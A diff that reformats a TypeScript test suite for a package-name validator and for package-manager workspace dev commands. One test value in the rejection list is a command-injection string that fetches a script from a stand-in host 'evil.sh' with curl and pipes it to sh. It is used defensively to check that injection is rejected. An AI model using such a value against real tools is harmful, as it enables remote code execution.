@@ -27,14 +27,12 @@ function npmAccepts(name: string): boolean {
 }
 
 describe('isValidPackageName', () => {
-  it.each([
-    '@synestra/corporate-website',
-    'corporate',
-    'web-core.app',
-    'http',
-  ])('accepts %s', name => {
-    expect(isValidPackageName(name)).toBe(true);
-  });
+  it.each(['@synestra/corporate-website', 'corporate', 'web-core.app', 'http'])(
+    'accepts %s',
+    name => {
+      expect(isValidPackageName(name)).toBe(true);
+    },
+  );
 
   it.each([
     'x;curl${IFS}-s${IFS}evil.sh|sh;#',
@@ -61,12 +59,16 @@ describe('isValidPackageName', () => {
       name.startsWith('-') || name.endsWith('.') || /\/-/.test(name);
     const names = fc.oneof(
       fc.string(),
-      fc.stringMatching(/^@?[a-zA-Z0-9._~!*'()-]{0,8}\/?[a-zA-Z0-9._~!*'()-]{0,8}$/),
+      fc.stringMatching(
+        /^@?[a-zA-Z0-9._~!*'()-]{0,8}\/?[a-zA-Z0-9._~!*'()-]{0,8}$/,
+      ),
       fc.constantFrom(...builtinModules),
     );
     fc.assert(
       fc.property(names, name => {
-        expect(isValidPackageName(name)).toBe(npmAccepts(name) && !misread(name));
+        expect(isValidPackageName(name)).toBe(
+          npmAccepts(name) && !misread(name),
+        );
       }),
       { numRuns: 5000 },
     );
@@ -89,8 +91,18 @@ describe('package manager', () => {
   });
 
   it('builds each tool’s documented workspace dev command', () => {
-    expect(workspaceDevArgv('pnpm', 'a')).toEqual(['pnpm', '--filter', 'a', 'dev']);
-    expect(workspaceDevArgv('yarn', 'a')).toEqual(['yarn', 'workspace', 'a', 'dev']);
+    expect(workspaceDevArgv('pnpm', 'a')).toEqual([
+      'pnpm',
+      '--filter',
+      'a',
+      'dev',
+    ]);
+    expect(workspaceDevArgv('yarn', 'a')).toEqual([
+      'yarn',
+      'workspace',
+      'a',
+      'dev',
+    ]);
     expect(workspaceDevArgv('npm', 'a')).toEqual([
       'npm',
       'run',
@@ -98,6 +110,11 @@ describe('package manager', () => {
       '--workspace',
       'a',
     ]);
-    expect(workspaceDevArgv('bun', 'a')).toEqual(['bun', '--filter', 'a', 'dev']);
+    expect(workspaceDevArgv('bun', 'a')).toEqual([
+      'bun',
+      '--filter',
+      'a',
+      'dev',
+    ]);
   });
 });
